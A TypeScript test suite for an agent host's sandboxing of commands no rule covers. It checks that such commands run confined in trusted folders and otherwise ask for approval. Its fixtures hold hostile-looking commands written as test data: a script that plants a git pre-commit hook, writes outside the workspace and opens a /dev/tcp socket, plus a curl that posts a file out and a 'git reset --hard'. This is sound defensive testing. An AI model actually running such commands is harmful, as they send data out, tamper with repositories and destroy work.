/** Commands that no rule covers run confined and unasked where everything says so, and ask as soon as one thing does not. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import type { Probe } from "../sandbox/probe.ts";
import { makeStandIn, missing, program } from "../sandbox/testing/real-sandbox.ts";
import { makeFolders, openHost, removeFolders } from "./testing/host-fixture.ts";

const usable: Probe = { usable: true, program, tries: 1 };

/** A host whose person trusts the folder and has uncovered commands run confined. @param probed what its sandbox is taken for */
async function open(probed: Probe = usable) {
  const folders = await makeFolders();
  const { workspace } = folders;
  execFileSync("git", ["init", "-q"], { cwd: workspace });
  writeFileSync(join(workspace, "notes"), "one\n");
  writeFileSync(
    join(workspace, "make.sh"),
    "echo x > made; echo x > ../beside; echo x > .git/hooks/pre-commit; (exec 3<>/dev/tcp/192.0.2.1/80) 2>&1; true",
  );
  const running = await openHost(folders, {
    sandbox: { mode: "auto", parts: { probe: async () => probed } },
  });
  onTestFinished(async () => {
    await running.close();
    await removeFolders(folders);
  });
  const { console } = running;
  await console.trust(workspace);
  const turnOn = () => console.client.call("settings.update", { uncoveredCommands: "confined" });
  await expect(turnOn()).rejects.toMatchObject({ code: "conflict", field: "uncoveredCommands" });
  // Only of one folder is not what it would mean.
  await console.client.call("rules.previewConfined", { workspace });
  if (probed.usable) await expect(turnOn()).rejects.toThrow(/your own decisions/);
  await console.client.call("rules.previewConfined", {});
  await turnOn();
  const lines = async (threadId: Parameters<typeof console.ledger>[0]) =>
    (await console.ledger(threadId)).map(({ by, width }) => [by.kind, width]);
  return { folders, workspace, console, lines, there: (name: string) => existsSync(join(workspace, name)) };
}

describe.skipIf(missing !== undefined)("a command that no rule covers", () => {
  it("runs confined and unasked, keeps to its width, and record and conversation say who let it", async () => {
    const { console, lines, there } = await open();
    const threadId = await console.start();
    await console.run(threadId, "run bash make.sh");
    expect([there("made"), there("../beside"), there(".git/hooks/pre-commit")]).toEqual([true, false, false]);
    expect(await lines(threadId)).toEqual([["confined", "workspace"]]);
    const [call] = await console.toolCalls(threadId);
    expect([call?.width, call?.result]).toEqual([
      "workspace",
      expect.stringContaining("Network is unreachable"),
    ]);
  });

  it("asks where a sandbox would not hold what it does: what leaves, what writes outside, what git would lose", async () => {
    const { console, there } = await open();
    const threadId = await console.start();
    for (const [command, width] of [
      ["curl -d @notes https://example.org", "workspace; network"],
      ["cp notes ../beside", "outside"],
      ["echo x > .git/hooks/pre-commit", "workspace"],
      ["git reset --hard", "workspace and git"],
      ["bash make.sh; git push", "outside"],
    ]) {
      await console.send(threadId, `run ${command}`);
      const asked = await console.onePending(threadId);
      expect([command, asked.width]).toEqual([command, width]);
      await console.decide(asked, { type: "reject" });
      await console.untilRest(threadId);
    }
    expect([there("made"), there("../beside")]).toEqual([false, false]);
  });

  it("asks from the moment on that the folder is trusted no more, its own file says so, or the switch is back", async () => {
    const { console, workspace } = await open();
    const { call } = console.client;
    const threadId = await console.start();
    const asks = async () => {
      await console.send(threadId, "run bash make.sh");
      const asked = await console.onePending(threadId);
      await console.decide(asked, { type: "reject" });
      await console.untilRest(threadId);
    };
    await call("workspaces.setTrust", { path: workspace, trusted: false });
    await asks();
    mkdirSync(join(workspace, ".countersign"));
    writeFileSync(join(workspace, ".countersign/rules.json"), '{"uncovered": "ask", "rules": []}');
    await console.trust(workspace);
    await asks();
    writeFileSync(join(workspace, ".countersign/rules.json"), '{"rules": []}');
    await console.trust(workspace);
    await console.run(threadId, "run bash make.sh");
    await call("settings.update", { uncoveredCommands: "ask" });
    await asks();
  });
});

describe.skipIf(process.platform !== "linux")("a sandbox that goes away between judging and start", () => {
  it("has its command asked about with the reason, and nothing of it runs without it", async () => {
    const broken = makeStandIn("echo 'bwrap: no namespaces' >&2; exit 1");
    const { console, there } = await open({ usable: true, program: broken, tries: 1 });
    const threadId = await console.start("run bash make.sh");
    const asked = await console.onePending(threadId);
    expect([asked.width, asked.description]).toEqual([
      "outside",
      expect.stringContaining("could not be confined"),
    ]);
    await console.decide(asked, { type: "reject" });
    await console.untilRest(threadId);
    expect(there("made")).toBe(false);
  });
});

it("cannot be chosen where commands cannot be confined", async () => {
  await expect(open({ usable: false, why: "it is not installed" })).rejects.toMatchObject({
    code: "conflict",
    message: expect.stringContaining("it is not installed"),
  });
});
